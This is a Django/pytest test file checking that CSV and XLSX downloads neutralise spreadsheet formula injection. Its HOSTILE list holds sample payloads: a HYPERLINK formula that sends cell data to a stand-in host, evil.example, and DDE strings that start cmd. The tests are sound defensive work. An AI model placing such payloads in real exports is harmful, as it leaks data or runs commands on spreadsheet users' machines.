"""Issue 17 M6: no exported cell can run as a spreadsheet formula (CSV injection), whoever
typed the text; one writer (core.spreadsheets) serves every CSV and XLSX download."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from accounts.roles import Role
from core.spreadsheets import FORMULA_START, csv_text, safe_cell, unescape_cell, xlsx_bytes
from knowledge.models import AnswerLog

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"快递")',
    "+cmd|' /C calc'!A0",
    "-2+3 运费多少",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_no_csv_cell_reads_back_as_a_formula_and_unescaping_restores_it(cells):
    written = _csv_cells(csv_text(["h"] * len(cells), [cells]))[len(cells) :]
    assert not any(cell.startswith(FORMULA_START) for cell in written)
    assert [unescape_cell(cell) for cell in written] == cells


def test_numbers_stay_numbers():
    assert safe_cell(-5) == -5 and safe_cell(1.5) == 1.5 and safe_cell(None) is None
    book = load_workbook(io.BytesIO(xlsx_bytes("t", ["n", "text"], [[-5, "-5"]])))
    assert [c.value for c in book.active[2]] == [-5, "'-5"]


def _unanswered(questions):
    for text in questions:
        AnswerLog.objects.create(question=text, answered=False, confidence=0.1, latency_ms=1)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_unanswered_topics_export_escapes_customer_text(client, make_user, fmt):
    # Two of each so that every question lands in a topic with examples.
    _unanswered(HOSTILE * 2)
    client.force_login(make_user("sup", Role.SUPERVISOR))
    response = client.get("/analytics/knowledge/", {"export": fmt, "table": "unanswered_topics"})
    assert response.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(response.content.decode())
    else:
        book = load_workbook(io.BytesIO(response.content))
        cells = [c.value for row in book.active.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    texts = [c for c in cells if isinstance(c, str)]
    assert len(texts) > 3  # headings plus topics
    assert not any(c.startswith(FORMULA_START) for c in texts)


@pytest.mark.django_db
def test_the_product_export_escapes_cells(client, make_user):
    from profiles.models import Product
    from tests.factories import make_shop

    Product.objects.create(shop=make_shop(), sku="=1+1", name='=HYPERLINK("x")', price="1.00")
    client.force_login(make_user("root", Role.ADMINISTRATOR))
    form = client.get("/admin/profiles/product/export/").content.decode()
    import re

    columns = re.findall(r'type="checkbox" name="(\w+)"', form)
    response = client.post(
        "/admin/profiles/product/export/",
        {"format": "0", **{c: "on" for c in columns}},
    )
    assert response.status_code == 200, response.content[:300]
    cells = _csv_cells(response.content.decode())
    assert "'=1+1" in cells and '\'=HYPERLINK("x")' in cells
    assert not any(c.startswith(FORMULA_START) for c in cells)
